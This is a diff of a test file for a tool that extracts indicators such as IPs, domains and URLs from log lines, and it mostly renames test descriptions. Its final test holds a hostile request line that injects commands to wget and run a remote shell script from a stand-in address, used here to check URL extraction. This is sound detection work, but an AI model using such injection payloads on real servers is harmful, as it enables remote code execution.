@@ -2,8 +2,8 @@ import { findIndicators } from '../../../src/core/indicators/index';
 import assert from 'node:assert/strict';
 import { assertFound, assertNothingFound, findRaws } from './findHelpers';
 
-describe('forms that logs write', () => {
-  it('names below endings that have no entry of their own in the list', () =>
+describe('Finding indicators in log notations', () => {
+  it('finds names below top-level domains that have no entry of their own in the list', () =>
     assertFound([
       [
         'to=<jo@a-site.co.za>, relay=mx.b-site.org.za[192.0.2.4], co.za',
@@ -12,7 +12,7 @@ describe('forms that logs write', () => {
       ['GET https://a-site.co.za/x', ['url https://a-site.co.za/x']],
     ]));
 
-  it('URLs whose host many names share', () => {
+  it('finds URLs with a shared host', () => {
     assertFound([
       ['GET https://s3.amazonaws.com/bucket/a.exe', ['url https://s3.amazonaws.com/bucket/a.exe']],
       ['hxxps://github[.]io/x, github[.]io/y', ['url https://github.io/x', 'url http://github.io/y']],
@@ -21,7 +21,7 @@ describe('forms that logs write', () => {
     assert.equal(findIndicators('https://s3.amazonaws.com/x')[0]?.reserved, false);
   });
 
-  it('machines whose names a company made suffixes, and nodes of a cluster', () =>
+  it('finds machines below registered suffixes, and cluster nodes', () =>
     assertFound([
       [
         'from ec2-192-0-2-7.compute-1.amazonaws.com, node/ip-10-0-1-5.eu-west-1.compute.internal',
@@ -29,7 +29,7 @@ describe('forms that logs write', () => {
       ],
     ]));
 
-  it('a number behind a slash: port or prefix', () =>
+  it('distinguishes ports and prefixes after a slash', () =>
     assertFound([
       [
         'Built inbound ICMP connection for faddr 81.2.69.144/0 gaddr 81.2.69.145/9 laddr 10.10.10.11/17 type 3',
@@ -44,7 +44,7 @@ describe('forms that logs write', () => {
       ['2001:db8::1/64 inet6 addr:2001:db8::1/64 2001:db8::/32 route 10.0.0.0/8->10.1.0.0/16', []],
     ]));
 
-  it('an address behind the name of an interface or a host', () =>
+  it('finds addresses after the name of an interface or a host', () =>
     assertFound([
       [
         'permitted tcp inside/81.2.69.144(62157) -> outside/81.2.69.145(22) hit-cnt 1',
@@ -53,7 +53,7 @@ describe('forms that logs write', () => {
       ['connect to web-1/81.2.69.144, Chrome/124.0.0.0 Reader/4.4.5.100', ['ip 81.2.69.144']],
     ]));
 
-  it('both ends behind an ellipsis', () =>
+  it('finds both ends around an ellipsis', () =>
     assertFound([
       [
         'established between 10.0.0.1[gw.a-site.org]...81.2.69.144[b-site.org]',
@@ -61,7 +61,7 @@ describe('forms that logs write', () => {
       ],
     ]));
 
-  it('versions of mail servers, products and packages are none', () =>
+  it('ignores versions of mail servers, products, and packages', () =>
     assertNothingFound([
       'with Microsoft SMTP Server (TLS) id 14.1.225.23; Thu, 20 Sep 2012',
       'with Microsoft SMTP Server (TLS)\r\n id 8.3.245.1; Wed, 19 Sep 2012',
@@ -71,7 +71,7 @@ describe('forms that logs write', () => {
       'CN=a,2.5.4.15=Private Organization',
     ]));
 
-  it('names in capitals, as Windows and registries write them', () =>
+  it('finds names in capitals, as Windows and registries write them', () =>
     assertFound([
       ['Computer: DC01.corp.local, MSG1.AcmeRelay.local', ['domain dc01.corp.local', 'domain msg1.acmerelay.local']],
       ['CORP.LOCAL\\jo logged on to SRV2.CORP.LOCAL', ['domain corp.local', 'domain srv2.corp.local']],
@@ -82,7 +82,7 @@ describe('forms that logs write', () => {
       ['select EMP.NAME, T1.ID from DB1.EMP.ID; Thread.local; LOGGER.INFO', []],
     ]));
 
-  it('principals of Kerberos', () =>
+  it('finds the hosts of Kerberos principals', () =>
     assertFound([
       [
         'krbtgt/CORP.LOCAL@CORP.LOCAL for HTTP/web1.a-site.com@A-SITE.COM',
@@ -95,7 +95,7 @@ describe('forms that logs write', () => {
       ['src/http/client.rs bin/setup.local', []],
     ]));
 
-  it('names of users, units and files are none', () => {
+  it('ignores user names, units, and files', () => {
     assertNothingFound([
       'for invalid user john.li from; user=max.page; username="ann.black"; for user jo.kim port',
       'Reached target network-online.target. Stopped target multi-user.target',
@@ -112,7 +112,7 @@ describe('forms that logs write', () => {
     ]);
   });
 
-  it('names in the strings of JSON', () =>
+  it('finds names in JSON strings', () =>
     assertFound(
       [
         ['{"m":"tried \\"cloud.test.com\\" as host"}', ['domain cloud.test.com']],
@@ -131,7 +131,7 @@ describe('forms that logs write', () => {
       'json',
     ));
 
-  it('what a command in a request downloads', () => {
+  it('finds the URL that a command in a request downloads', () => {
     assert.deepEqual(findRaws('GET /shell?cd+/tmp;wget+http://192.0.2.4/a.sh;sh+/tmp/a.sh HTTP/1.1'), [
       'http://192.0.2.4/a.sh',
     ]);
